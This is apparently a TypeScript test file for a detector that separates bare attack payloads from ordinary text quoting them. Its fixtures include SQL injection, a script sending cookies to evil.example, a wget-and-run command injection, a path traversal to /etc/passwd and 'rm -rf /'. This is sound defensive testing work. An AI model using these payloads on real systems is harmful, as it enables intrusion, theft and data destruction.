import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { isBarePayload } from './bare-payload.ts';

const bytes = (text: string): string => Buffer.from(text).toString('latin1');

/** A value, and what a detector says it found in it. */
const VALUES: readonly (readonly [value: string, found: string, tag: string])[] = [
  ["' UNION SELECT name,password FROM users--", "' UNION SELECT name,password FROM users", 'sqli'],
  ["garden' UNION SELECT name,password FROM users--", "' UNION SELECT name", 'sqli'],
  ["1' and sleep(5) order by name desc limit 1 -- ", "1' and sleep(5)", 'sqli'],
  ['<script>fetch("//evil.example/?c=" + document.cookie)</script>', '<script>', 'xss'],
  ['; wget http://evil.example/x -O /tmp/x && sh /tmp/x', '; wget', 'rce'],
  ['../../../../etc/passwd', '../../../../etc/passwd', 'lfi'],
  ['{{7*7}}', '{{7*7}}', 'ssti'],
];

const TEXTS: readonly (readonly [value: string, found: string])[] = [
  [
    "Why does x' UNION SELECT name, price FROM products -- return both lists?",
    "' UNION SELECT name, price FROM products",
  ],
  [
    "为什么 x' UNION SELECT name FROM products 会返回两个列表?",
    "' UNION SELECT name FROM products",
  ],
  [
    "Pourquoi l'exemple avec <script>alert(1)</script> ne marche pas ?",
    '<script>alert(1)</script>',
  ],
  ['In this chapter we delete all files: rm -rf / and never look back', 'rm -rf /'],
];

describe('a value that is little but a payload', () => {
  for (const [value, found, tag] of VALUES) {
    test(`is ${value}`, () => {
      const match = { snippet: value, evidence: `what it does: ${found}`, tags: [`attack-${tag}`] };
      assert.ok(isBarePayload(match));
      assert.ok(isBarePayload({ ...match, evidence: 'found somewhere else' }));
    });
  }

  for (const [value, found] of TEXTS) {
    test(`is not ${value}`, () => {
      const evidence = `what it does: ${bytes(found)}`;
      assert.ok(!isBarePayload({ snippet: bytes(value), evidence, tags: ['attack-sqli'] }));
    });
  }

  test('is none of a rule that looks for no payload', () => {
    const match = { snippet: 'HTTP/0.9', evidence: 'HTTP/0.9' };
    assert.ok(!isBarePayload({ ...match, tags: ['protocol'] }));
    assert.ok(!isBarePayload({ ...match, tags: ['attack-protocol'] }));
  });
});
